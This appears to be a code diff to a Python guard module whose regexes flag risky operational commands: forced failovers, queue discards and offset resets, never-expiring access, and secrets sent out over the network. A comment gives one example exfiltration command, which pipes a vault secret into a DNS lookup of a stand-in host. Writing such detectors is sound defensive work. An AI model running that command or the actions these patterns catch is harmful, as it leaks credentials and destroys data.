@@ -56,15 +56,19 @@ _NO_OVERLAP = re.compile(
     r"--(?:overlap|grace)[\w-]*[= ]['\"]?0+[a-z]*\b|--immediate(?:ly)?\b|--invalidate-all\b))",
     re.I,
 )
-# A failover or promotion forced past what keeps it from losing writes.
+# A failover or promotion forced past what keeps it from losing writes (a bare `--force` moves
+# what is booked or connected; skipping the sync or lag check loses what was written).
 _FORCED_FAILOVER = re.compile(
     r"(?=[^\n]*\b(?:fail-?over|promote|switch-?over|takeover)\b)"
-    r"(?=[^\n]*(?:(?:^|\s)--force\b|--skip-[\w-]+|--no-(?:sync|wait|check|catch-?up)[\w-]*|"
+    r"(?=[^\n]*(?:--skip-[\w-]+|--no-(?:sync|wait|check|catch-?up)[\w-]*|"
     r"--ignore-(?:lag|sync)[\w-]*|--allow-data-loss\b|--unsafe\b))",
     re.I,
 )
 # Messages waiting for delivery thrown away wholesale.
 _DISCARDS_QUEUE = re.compile(
+    # Offsets moved past what was never processed: the backlog is skipped, not delivered.
+    r"\boffsets?\b[^\n]*\breset\b[^\n]*--to-(?:latest|end)\b|--reset-offsets\b[^\n]*--to-latest\b|"
+    r"--mark-(?:delivered|processed|sent|done|acked)\b|"
     rf"(?=[^\n]*\b(?:{_REMOVE}|purge_queue|truncate|reset)\b)"
     r"(?=[^\n]*\b(?:queues?|topics?|outbox|streams?|dlq|dead-?letter\w*|mailbox|backlog|"
     r"spool)\b)(?=[^\n]*(?:(?:^|\s)--force\b|(?:^|\s)--all(?![\w-])|(?:^|\s)--yes\b|"
@@ -100,7 +104,7 @@ _PROTECTION_OFF = re.compile(
 # Access or a hold that never ends: a password that never expires, a public link with no
 # expiry, a bypass "permanent". What an incident opens should close with it.
 _FOREVER = re.compile(
-    r"--[\w-]*(?:expir\w*|ttl|duration|lifetime|valid\w*)[= ]['\"]?(?:never|permanent\w*|forever|"
+    r"--[\w-]*(?:expir\w*|ttl|duration|lifetime|valid\w*|until)[= ]['\"]?(?:never|permanent\w*|forever|"
     r"infinite|unlimited|none|0)['\"]?(?=\s|$)|--no-expir\w*|--(?:permanent|forever)\b",
     re.I,
 )
@@ -183,9 +187,21 @@ _NETWORK = re.compile(
 )
 
 
+# A secret fetched from a store, and a DNS lookup: a query name is a message to whoever runs
+# the zone (`dig $(vault kv get -field=key ...).probe.example`). Nothing legitimate needs both.
+_FETCHES_SECRET = re.compile(
+    r"\b(?:secrets?\s+(?:get|read|show|export)|get\s+secrets?|vault\s+(?:kv\s+)?(?:get|read)|"
+    r"get-secret-value|print-access-token|keys?\s+(?:get|export|show))\b|--include-(?:keys|secrets)\b",
+    re.I,
+)
+_DNS = re.compile(r"\b(?:dig|nslookup|drill|host|resolvectl\s+query)\b", re.I)
+
+
 def sends_keys_away(span: str) -> bool:
     """Whether a command reads key material as data and talks to the network in the same
     breath (an "encoded probe", a "support bundle", a DNS "diagnostic")."""
+    if _FETCHES_SECRET.search(span) and _DNS.search(span):
+        return True
     return bool(_READS_KEYS.search(span) and _NETWORK.search(span))
 
 
